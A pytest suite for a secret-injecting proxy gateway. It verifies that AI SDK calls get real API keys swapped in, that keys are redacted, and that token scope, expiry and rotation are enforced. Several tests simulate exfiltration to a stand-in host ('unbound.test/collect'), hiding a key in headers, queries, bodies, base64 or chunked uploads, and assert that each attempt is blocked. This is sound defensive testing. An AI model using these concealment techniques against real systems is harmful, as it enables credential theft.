"""Secret injection end to end: the official SDKs, configured only by environment,
call inference APIs through the gateway; the upstream sees the real key, never the
token; streams arrive as sent; keys never leak to other hosts, logs or responses."""

from __future__ import annotations

import base64
import json
import os
import ssl
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from helpers.errors import code_of, reason_of
from helpers.gateway import GatewayFactory, GatewayThread
from helpers.sandbox import env_output, parse_dotenv
from helpers.tls import LocalCA
from helpers.upstream import Upstream

OPENAI_KEY = "sk-real-openai-key-0123456789abcdef"
ANTHROPIC_KEY = "sk-ant-real-anthropic-key-0123456789"

POLICY = """
version: v1
name: agent
egress:
  - host: api.openai.com
    credential: openai
  - host: api.anthropic.com
    credential: anthropic
  - host: unbound.test
    inspect: true
  - host: other.test
credentials:
  openai: {preset: openai, secret: openai-api-key}
  anthropic: {preset: anthropic, secret: anthropic-api-key}
"""


def _inference_gateway(make: GatewayFactory, workdir: Path, engine: str) -> GatewayThread:
    secrets = workdir / "secrets.yaml"
    secrets.write_text(f"openai-api-key: {OPENAI_KEY}\nanthropic-api-key: {ANTHROPIC_KEY}\n")
    secrets.chmod(0o600)
    return make({"agent.yaml": POLICY}, config={"secrets": {"store": "file", "path": str(secrets)},
                                                "network": {"intercept": engine}})


@pytest.fixture(params=["fast", "mitmproxy"])
def inference_gateway(make_gateway: GatewayFactory, tmp_path: Path,
                      request: pytest.FixtureRequest) -> GatewayThread:
    """Both intercept paths: gateway.intercept (HTTP/1.1) and mitmproxy's layers."""
    return _inference_gateway(make_gateway, tmp_path, request.param)


@pytest.fixture(scope="module", params=["fast", "mitmproxy"])
def shared_inference_gateway(make_module_gateway: GatewayFactory,
                             tmp_path_factory: pytest.TempPathFactory,
                             request: pytest.FixtureRequest) -> GatewayThread:
    """`inference_gateway` shared by the module's tests that need nothing of their own
    (each mints its own token)."""
    return _inference_gateway(make_module_gateway, tmp_path_factory.mktemp("secrets"),
                              request.param)


def sandbox_env(gw: GatewayThread, token: str, bundle: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.endswith(("_PROXY", "_proxy"))}
    env.update({
        "HTTPS_PROXY": gw.proxy_url(token), "SSL_CERT_FILE": str(bundle),
        "OPENAI_API_KEY": token, "ANTHROPIC_API_KEY": token, "NO_PROXY": "",
    })
    return env


SDK_SCRIPT = r"""
import json, sys, time
import openai, anthropic
out = {}
oc = openai.OpenAI(max_retries=0)
r = oc.chat.completions.create(model="gpt-test", messages=[{"role": "user", "content": "hi"}])
out["openai"] = r.choices[0].message.content
arrivals = []
for chunk in oc.chat.completions.create(model="gpt-test", stream=True,
                                        messages=[{"role": "user", "content": "hi"}]):
    if chunk.choices and chunk.choices[0].delta.content:
        arrivals.append(time.time())
out["openai_stream_gaps"] = [b - a for a, b in zip(arrivals, arrivals[1:])]
ac = anthropic.Anthropic(max_retries=0)
m = ac.messages.create(model="claude-test", max_tokens=10,
                       messages=[{"role": "user", "content": "hi"}])
out["anthropic"] = m.content[0].text
arrivals = []
with ac.messages.stream(model="claude-test", max_tokens=10,
                        messages=[{"role": "user", "content": "hi"}]) as s:
    for text in s.text_stream:
        arrivals.append(time.time())
out["anthropic_stream_gaps"] = [b - a for a, b in zip(arrivals, arrivals[1:])]
print(json.dumps(out))
"""


def test_official_sdks_through_the_gateway(inference_gateway: GatewayThread,
                                           upstream: Upstream, tmp_path: Path) -> None:
    gw = inference_gateway
    token = gw.mint("agent")
    bundle = tmp_path / "bundle.pem"
    bundle.write_bytes(gw.ca_cert.read_bytes())
    before = len(upstream.requests)
    out = subprocess.run([sys.executable, "-c", SDK_SCRIPT], env=sandbox_env(gw, token, bundle),
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr[-2000:] + gw.audit.getvalue()[-2000:]
    result = json.loads(out.stdout)
    assert result["openai"] == "Hello" and result["anthropic"] == "Hello"
    # Streamed events arrive spaced as sent (0.2 s apart), not all at once at the end.
    for key in ("openai_stream_gaps", "anthropic_stream_gaps"):
        assert len(result[key]) == 2 and all(0.1 < g < 0.4 for g in result[key]), result[key]
    seen = upstream.requests[before:]
    assert len(seen) == 4
    for req in seen:
        blob = json.dumps(req.headers)
        assert token not in blob and "proxy-authorization" not in req.headers
        if req.path.startswith("/v1/chat"):
            assert req.headers["authorization"] == f"Bearer {OPENAI_KEY}"
        else:
            key = req.headers.get("x-api-key") or req.headers["authorization"].split()[-1]
            assert key == ANTHROPIC_KEY
    # Nothing the gateway wrote knows the keys or the token.
    text = gw.audit.getvalue() + httpx.get(f"{gw.admin}/metrics").text
    for secret in (OPENAI_KEY, ANTHROPIC_KEY, token):
        assert secret not in text


def _client(gw: GatewayThread, token: str) -> httpx.Client:
    return httpx.Client(proxy=gw.proxy_url(token), timeout=10,
                        verify=ssl.create_default_context(cafile=gw.ca_cert))


def _prime(gw: GatewayThread, token: str) -> None:
    """Make the gateway fetch the OpenAI key (leak detection knows fetched keys)."""
    with _client(gw, token) as c:
        assert c.post("https://api.openai.com/v1/chat/completions", json={},
                      headers={"Authorization": f"Bearer {token}"}).status_code == 200


@pytest.mark.parametrize("where", ["header", "query", "body", "base64", "urlencoded", "basic"])
@pytest.mark.parametrize("what", ["token", "key"])
def test_exfiltration_to_unbound_host_is_refused(shared_inference_gateway: GatewayThread,
                                                 upstream: Upstream, where: str,
                                                 what: str) -> None:
    gw = shared_inference_gateway
    token = gw.mint("agent")
    _prime(gw, token)
    value = token if what == "token" else OPENAI_KEY
    url, headers, content = "https://unbound.test/collect", {}, None
    if where == "header":
        headers = {"X-Steal": value}
    elif where == "query":
        url += f"?v={value}"
    elif where == "body":
        content = json.dumps({"k": value}).encode()
    elif where == "base64":
        headers = {"X-Data": base64.b64encode(f"prefix:{value}".encode()).decode()}
    elif where == "urlencoded":
        content = f"data={quote('x ' + value)}".encode()
    elif where == "basic":
        headers = {"Authorization": "Basic " + base64.b64encode(f"u:{value}".encode()).decode()}
    before = len(upstream.requests)
    with _client(gw, token) as c:
        r = c.post(url, headers=headers, content=content)
    assert r.status_code == 403, r.text
    assert code_of(r.json()) == "exfiltration_blocked"
    assert value not in r.text
    assert len(upstream.requests) == before


def test_echoed_key_is_redacted(inference_gateway: GatewayThread) -> None:
    gw = inference_gateway
    token = gw.mint("agent")
    with _client(gw, token) as c:
        r = c.get("https://api.openai.com/echo-header/Authorization",
                  headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 200
    assert OPENAI_KEY not in r.text and OPENAI_KEY not in json.dumps(dict(r.headers))
    assert "[REDACTED]" in r.text and "[REDACTED]" in r.headers["x-echo"]


def test_token_missing_from_carrier_or_out_of_scope(inference_gateway: GatewayThread) -> None:
    gw = inference_gateway
    token = gw.mint("agent")
    with _client(gw, token) as c:
        r = c.post("https://api.openai.com/v1/chat/completions", json={})
        assert r.status_code == 403 and code_of(r.json()) == "credential_not_in_scope"
    narrow = gw.mint("agent", scope={"anthropic": None})
    with _client(gw, narrow) as c:
        r = c.post("https://api.openai.com/v1/chat/completions", json={},
                   headers={"Authorization": f"Bearer {narrow}"})
        assert r.status_code == 403 and "scope" in reason_of(r.json())
    path_scoped = gw.mint("agent", scope={"openai": frozenset({"/v1/models"})})
    with _client(gw, path_scoped) as c:
        r = c.post("https://api.openai.com/v1/chat/completions", json={},
                   headers={"Authorization": f"Bearer {path_scoped}"})
        assert r.status_code == 403
        r = c.get("https://api.openai.com/v1/models",
                  headers={"Authorization": f"Bearer {path_scoped}"})
        assert r.status_code == 200


def test_missing_secret_is_503_with_reason(make_gateway: GatewayFactory, tmp_path: Path) -> None:
    secrets = tmp_path / "empty.yaml"
    secrets.write_text("{}\n")
    secrets.chmod(0o600)
    gw = make_gateway({"agent.yaml": POLICY},
                      config={"secrets": {"store": "file", "path": str(secrets)}})
    token = gw.mint("agent")
    with _client(gw, token) as c:
        r = c.post("https://api.openai.com/v1/chat/completions", json={},
                   headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 503
    assert code_of(r.json()) == "secret_unavailable" and "openai-api-key" in reason_of(r.json())


def test_stream_may_finish_after_token_expiry_next_request_refused(
        inference_gateway: GatewayThread) -> None:
    gw = inference_gateway
    for _ in range(3):  # (a 1 s token can expire before a loaded machine sends the request)
        minted = gw.gateway.tokens.mint("sandbox-1", "agent", {"openai": None}, ttl=1)
        token = minted.token
        with _client(gw, token) as c:
            try:
                with c.stream("POST", "https://api.openai.com/v1/chat/completions",
                              json={"stream": True},
                              headers={"Authorization": f"Bearer {token}"}) as r:
                    events = [line for line in r.iter_lines() if line.startswith("data:")]
            except httpx.ProxyError:  # (refused at the CONNECT: expired already)
                assert time.time() >= minted.expires_at
                continue
            if r.status_code == 407 and time.time() >= minted.expires_at:
                continue  # expired before the stream began: not what this test is about
            assert len(events) == 4  # 3 chunks + [DONE], the token expiring mid-stream
            time.sleep(max(0.0, minted.expires_at - time.time()) + 0.1)
            r2 = c.post("https://api.openai.com/v1/chat/completions", json={},
                        headers={"Authorization": f"Bearer {token}"})
            assert r2.status_code == 407 and code_of(r2.json()) == "token_expired"
            return
    raise AssertionError("the token expired before the stream began, three times")


def test_key_never_reaches_other_hosts(inference_gateway: GatewayThread,
                                       upstream: Upstream, test_ca: LocalCA) -> None:
    gw = inference_gateway
    token = gw.mint("agent")
    _prime(gw, token)
    with _client(gw, token) as c:
        c.get("https://unbound.test/x", headers={"Authorization": "Bearer not-a-token"})
    assert all(OPENAI_KEY not in json.dumps(r.headers) for r in upstream.requests
               if r.headers.get("host") != "api.openai.com")


def test_rotated_key_is_refetched_after_upstream_401(inference_gateway: GatewayThread,
                                                     upstream: Upstream,
                                                     tmp_path: Path) -> None:
    gw = inference_gateway
    token = gw.mint("agent")
    _prime(gw, token)
    rotated = "sk-rotated-openai-key-9876543210fedcba"
    secrets = tmp_path / "secrets.yaml"
    secrets.write_text(f"openai-api-key: {rotated}\nanthropic-api-key: {ANTHROPIC_KEY}\n")
    with _client(gw, token) as c:
        auth = {"Authorization": f"Bearer {token}"}
        # Cached: the old key is still used until the upstream rejects it.
        assert c.get("https://api.openai.com/status/401", headers=auth).status_code == 401
        assert upstream.requests[-1].headers["authorization"] == f"Bearer {OPENAI_KEY}"
        deadline = time.time() + 5
        while time.time() < deadline:
            assert c.post("https://api.openai.com/v1/chat/completions", json={},
                          headers=auth).status_code == 200
            if upstream.requests[-1].headers["authorization"] == f"Bearer {rotated}":
                break
            time.sleep(0.1)
    assert upstream.requests[-1].headers["authorization"] == f"Bearer {rotated}"


def test_large_request_bodies_stream_and_are_scanned(inference_gateway: GatewayThread,
                                                     upstream: Upstream) -> None:
    gw = inference_gateway
    token = gw.mint("agent")
    _prime(gw, token)
    body = b"a" * (3 * 1024 * 1024)
    with _client(gw, token) as c:
        r = c.post("https://unbound.test/upload", content=body)
    assert r.status_code == 200 and len(upstream.requests[-1].body) == len(body)
    # A key hidden at the end of a large (streamed) body never reaches the upstream: the
    # client is refused (403 while it can still read an answer, else cut off).
    with _client(gw, token) as c:
        try:
            refused = c.post("https://unbound.test/upload2", content=body + OPENAI_KEY.encode())
        except httpx.HTTPError:
            pass
        else:
            assert refused.status_code == 403
            assert code_of(refused.json()) == "exfiltration_blocked"
    assert all(OPENAI_KEY.encode() not in req.body for req in upstream.requests)


@pytest.mark.parametrize("size", [200 * 1024, 3 * 1024 * 1024])
def test_chunked_request_bodies_are_scanned(inference_gateway: GatewayThread,
                                            upstream: Upstream, size: int) -> None:
    """A chunked upload (no Content-Length) is scanned whatever its size: small ones
    whole, large ones chunk by chunk (a key in the last chunk is still caught)."""
    gw = inference_gateway
    token = gw.mint("agent")
    _prime(gw, token)

    def body(tail: bytes) -> Iterator[bytes]:
        for _ in range(size // 65536):
            yield b"b" * 65536
        yield tail

    with _client(gw, token) as c:
        r = c.post("https://unbound.test/chunked-ok", content=body(b"end"))
    assert r.status_code == 200, r.text
    assert upstream.requests[-1].body == b"b" * (size // 65536 * 65536) + b"end"
    before = len(upstream.requests)
    with _client(gw, token) as c:
        try:
            r = c.post("https://unbound.test/chunked-leak", content=body(OPENAI_KEY.encode()))
            assert r.status_code == 403 and code_of(r.json()) == "exfiltration_blocked"
        except httpx.HTTPError:
            pass  # a streamed body is cut off: the connection closes
    assert all(OPENAI_KEY.encode() not in req.body for req in upstream.requests[before:])
    if gw.config.network.intercept == "fast":
        # The intercept path never completes a cut-off request upstream (mitmproxy
        # cannot kill a request in transit: it ends the message without the bad chunk).
        assert all(req.path != "/chunked-leak" for req in upstream.requests[before:])


SHAPED_POLICY = POLICY.replace(
    "anthropic: {preset: anthropic, secret: anthropic-api-key}",
    "anthropic: {preset: anthropic, secret: anthropic-api-key, placeholder: sk-ant-api03-}")

SHAPED_SCRIPT = r"""
import json, os, anthropic
assert os.environ["ANTHROPIC_API_KEY"].startswith("sk-ant-api03-")
m = anthropic.Anthropic(max_retries=0).messages.create(
    model="claude-test", max_tokens=10, messages=[{"role": "user", "content": "hi"}])
print(json.dumps({"anthropic": m.content[0].text}))
"""


def test_a_key_shaped_token_from_env(make_gateway: GatewayFactory, upstream: Upstream,
                                     tmp_path: Path) -> None:
    """issue 23, item 4: `env --config` puts the credential's placeholder before the token
    in ANTHROPIC_API_KEY (for clients that check a key's shape); the gateway strips it,
    checks the token and swaps in the real key."""
    secrets = tmp_path / "secrets.yaml"
    secrets.write_text(f"anthropic-api-key: {ANTHROPIC_KEY}\nopenai-api-key: {OPENAI_KEY}\n")
    secrets.chmod(0o600)
    gw = make_gateway({"agent.yaml": SHAPED_POLICY},
                      config={"secrets": {"store": "file", "path": str(secrets)}})
    token = gw.mint("agent")
    assert gw.gateway.proxy_address
    host, port = gw.gateway.proxy_address[:2]
    code, out, err = env_output("--token", token, "--proxy", f"http://{host}:{port}",
                                "--config", str(tmp_path / "gateway.yaml"),
                                "--ca-bundle", str(gw.ca_cert), "--node-preload", "none")
    assert code == 0, err
    env = parse_dotenv(out)
    assert env["ANTHROPIC_API_KEY"] == f"sk-ant-api03-{token}"
    assert env["OPENAI_API_KEY"] == token  # (no placeholder on that credential)
    before = len(upstream.requests)
    run = subprocess.run([sys.executable, "-c", SHAPED_SCRIPT], capture_output=True, text=True,
                         timeout=60, env={"PATH": os.environ.get("PATH", ""), **env,
                                          "SSL_CERT_FILE": str(gw.ca_cert)})
    assert run.returncode == 0, run.stderr[-2000:]
    assert json.loads(run.stdout) == {"anthropic": "Hello"}
    seen = upstream.requests[before:]
    assert [r.headers.get("x-api-key") or r.headers["authorization"].split()[-1]
            for r in seen] == [ANTHROPIC_KEY]  # (the SDK's carrier, the real key in it)
    assert token not in json.dumps([r.headers for r in seen])
